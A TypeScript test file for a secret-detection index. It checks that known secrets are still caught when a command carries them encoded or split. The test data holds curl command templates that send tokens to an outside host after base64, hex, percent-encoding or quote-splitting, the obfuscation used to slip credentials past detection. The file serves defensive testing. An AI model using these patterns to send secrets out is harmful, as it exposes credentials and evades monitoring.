import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { test } from 'node:test';
import { atomsOf } from '../../../src/secrets/detect/atoms';
import { SecretIndex } from '../../../src/secrets/known/index';
import { seeded, tokenKinds } from '../detect/tokens';

const kinds = tokenKinds();
const split = (value: string): string => value.replace(/.{7}/g, '$&""');
const oneLine = (value: string): string => value.trim();

/** How a command may carry a value once it was read from its file. */
const ways: Readonly<Record<string, (value: string, command: (value: string) => string) => string>> = {
  'as it is': (value, command) => command(value),
  base64: (value) => `curl -H "X-Token: $(echo ${Buffer.from(value).toString('base64')} | base64 -d)" https://api.elsewhere.dev`,
  'base64 with a user': (value) =>
    `curl -H "Authorization: Basic ${Buffer.from(`me:${oneLine(value)}`).toString('base64')}" https://api.elsewhere.dev`,
  hex: (value) => `curl -H "X-Token: $(echo ${Buffer.from(value).toString('hex')} | xxd -r -p)" https://api.elsewhere.dev`,
  'split by quotes': (value) => `curl --oauth2-bearer "${split(value)}" https://api.elsewhere.dev`,
  'percent-encoded': (value) =>
    `curl "https://api.elsewhere.dev/?token=${encodeURIComponent(oneLine(value)).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)}"`,
  'in JSON': (value) => `curl -d '${JSON.stringify({ token: value })}' https://api.elsewhere.dev`,
};

for (const [way, write] of Object.entries(ways)) {
  test(`a known secret of every kind is found in a command ${way}`, () => {
    const missed = kinds.filter(({ make, file, command }, at) => {
      const value = make(seeded(at + 1));
      const { path, text } = file(value);
      const index = new SecretIndex(randomBytes(32));
      index.put(path, atomsOf(text, path), true);
      return index.find(write(value, command)).length === 0;
    });
    const most = way === 'as it is' ? 0 : Math.floor(kinds.length * (2 / 84));
    assert.ok(missed.length <= most, `missed ${missed.length}: ${missed.map(({ name }) => name).join(', ')}`);
  });
}

test('nothing is found in commands with values that no file holds', () => {
  const index = new SecretIndex(randomBytes(32));
  for (const [at, { make, file }] of kinds.entries()) {
    const { path, text } = file(make(seeded(at + 1)));
    index.put(`/${at}/${path}`, atomsOf(text, path), true);
  }
  const wrong = kinds.filter(({ make, command }, at) => index.find(command(make(seeded(at + 1_000)))).length > 0);
  assert.deepEqual(
    wrong.map(({ name }) => name),
    [],
  );
});
